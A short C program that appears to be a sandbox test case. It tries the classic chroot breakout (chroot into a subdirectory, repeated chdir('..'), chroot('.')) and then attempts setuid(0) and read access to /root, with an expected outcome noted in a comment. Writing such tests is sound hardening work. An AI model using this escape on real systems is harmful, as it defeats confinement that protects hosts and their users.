// leaves its root by chroot and ..
// outcome: ok
int main(void) {
	mkdir("jail", 0700);
	if (chroot("jail") == 0) {
		for (int i = 0; i < 64; i++) chdir("..");
		chroot(".");
		return 1;
	}
	return setuid(0) == 0 && access("/root", R_OK) == 0;
}
